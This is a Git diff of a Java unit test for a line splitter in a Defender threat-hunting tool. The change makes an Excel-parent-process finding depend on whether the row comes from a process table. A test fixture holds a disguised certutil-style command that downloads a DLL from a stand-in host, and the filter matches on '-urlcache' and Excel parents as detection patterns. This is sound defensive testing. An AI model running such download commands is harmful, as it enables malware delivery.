@@ -2,6 +2,7 @@ package dev.bazahunt.job.replay;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.bazahunt.telemetry.DefenderTable;
 import java.io.ByteArrayInputStream;
 import java.io.IOException;
 import java.io.InputStream;
@@ -17,13 +18,19 @@ class LineSplitterTest {
     private static final String DOWNLOAD = "{\"DeviceId\":\"d1\",\"InitiatingProcessFileName\":\"x8k2.exe\","
             + "\"InitiatingProcessCommandLine\":\"x8k2.exe -urlcache -split -f http://a.example/p.dll\"}";
     private static final String EXCEL_CHILD = "{\"DeviceId\":\"d1\",\"InitiatingProcessFileName\" : \"Excel.EXE\"}";
+    /** Excel writing a file, and Excel starting a process, in Storage envelopes whose category comes last. */
+    private static final String EXCEL_WRITES = "{\"properties\":" + EXCEL_CHILD
+            + ",\"category\":\"AdvancedHunting-DeviceFileEvents\"}";
+    private static final String EXCEL_STARTS = "{\"properties\":" + EXCEL_CHILD
+            + ",\"category\":\"AdvancedHunting-DeviceProcessEvents\"}";
 
     /** What the splitter handed on: line number, bytes, cut; and what it skipped. */
     private record Outcome(List<String> lines, long skipped, long consumed) {}
 
-    private static Outcome split(InputStream in, int maxLineBytes, boolean prefilter, long alreadyConsumed)
-            throws IOException {
-        LineSplitter splitter = new LineSplitter(in, maxLineBytes, prefilter);
+    /** Splits the rows of a file whose path names {@code tableHint}. */
+    private static Outcome split(InputStream in, int maxLineBytes, boolean prefilter, DefenderTable tableHint,
+            long alreadyConsumed) throws IOException {
+        LineSplitter splitter = new LineSplitter(in, maxLineBytes, prefilter, null, tableHint, 0, Long.MAX_VALUE);
         splitter.skipLines(alreadyConsumed);
         List<String> lines = new ArrayList<>();
         int outcome;
@@ -35,8 +42,22 @@ class LineSplitterTest {
         return new Outcome(lines, splitter.skippedLines(), splitter.linesConsumed());
     }
 
+    /** Splits a DeviceProcessEvents export: its flat rows are process rows. */
     private static Outcome split(String text, int maxLineBytes, boolean prefilter) throws IOException {
-        return split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), maxLineBytes, prefilter, 0);
+        return split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), maxLineBytes, prefilter,
+                DefenderTable.DEVICE_PROCESS_EVENTS, 0);
+    }
+
+    @Test
+    void anExcelValueIsHandedOnOnlyInALineThatMayHoldAProcessRow() throws IOException {
+        String text = String.join("\n", EXCEL_WRITES, EXCEL_STARTS, EXCEL_CHILD, BENIGN);
+        for (DefenderTable hint : new DefenderTable[] {null, DefenderTable.DEVICE_FILE_EVENTS}) {
+            Outcome outcome = split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true, hint, 0);
+            assertThat(outcome.lines()).as("hint %s", hint).containsExactly("2 " + EXCEL_STARTS);
+            assertThat(outcome.skipped()).isEqualTo(3);
+        }
+        Outcome processExport = split(text, 1 << 20, true);
+        assertThat(processExport.lines()).containsExactly("1 " + EXCEL_WRITES, "2 " + EXCEL_STARTS, "3 " + EXCEL_CHILD);
     }
 
     @Test
@@ -73,7 +94,8 @@ class LineSplitterTest {
     @Test
     void aRestoredReaderResumesAfterTheLinesItHadConsumed() throws IOException {
         String text = String.join("\n", DOWNLOAD, BENIGN, EXCEL_CHILD, BENIGN, DOWNLOAD);
-        Outcome outcome = split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true, 3);
+        Outcome outcome = split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true,
+                DefenderTable.DEVICE_PROCESS_EVENTS, 3);
         assertThat(outcome.lines()).containsExactly("5 " + DOWNLOAD);
         assertThat(outcome.skipped()).isEqualTo(1);
     }
@@ -96,7 +118,8 @@ class LineSplitterTest {
     /**
      * A line for the fused-scan test, with what the pre-filter's documentation says of it, decided by
      * hand: whether it holds a finding ({@code -urlcache} in any case, {@code "InitiatingProcessFileName"}
-     * : {@code "excel.exe"} in any case, or an escape that could spell one), and whether it looks like
+     * : {@code "excel.exe"} in any case in a line that names DeviceProcessEvents (the file names no table),
+     * or an escape that could spell one), and whether it looks like
      * one complete JSON object (first non-blank byte {@code '{'}, last {@code '}'}).
      */
     private record Piece(String text, boolean finding, boolean oneObject) {
@@ -113,7 +136,9 @@ class LineSplitterTest {
     private static final Piece[] PIECES = {
         new Piece(BENIGN, false, true),                        // CryptnetUrlCache and FileName EXCEL.EXE
         new Piece(DOWNLOAD, true, true),                       // -urlcache
-        new Piece(EXCEL_CHILD, true, true),                    // "InitiatingProcessFileName" : "Excel.EXE"
+        new Piece(EXCEL_CHILD, false, true),                   // "InitiatingProcessFileName" : "Excel.EXE", no table
+        new Piece(EXCEL_STARTS, true, true),                   // the same in a process row, named after it
+        new Piece(EXCEL_WRITES, false, true),                  // the same in a file row: not an Excel child
         new Piece("{\"a\":\"\\u0041\"}", true, true),         // an escape
         new Piece("{\"a\":\"C:\\\\users\"}", false, true),     // an escaped backslash before u: no escape
         new Piece("", false, false),
@@ -155,7 +180,7 @@ class LineSplitterTest {
                 }
             }
             int maxChunk = 1 + random.nextInt(random.nextBoolean() ? 64 : 200_000);
-            Outcome outcome = split(new ChunkedInputStream(bytes, maxChunk, random.split()), 4 << 20, true, 0);
+            Outcome outcome = split(new ChunkedInputStream(bytes, maxChunk, random.split()), 4 << 20, true, null, 0);
             assertThat(outcome.lines()).as("round %d, chunks up to %d", round, maxChunk).isEqualTo(expected);
             assertThat(outcome.skipped()).isEqualTo(expectedSkipped);
             assertThat(outcome.consumed()).isEqualTo(lines.size());
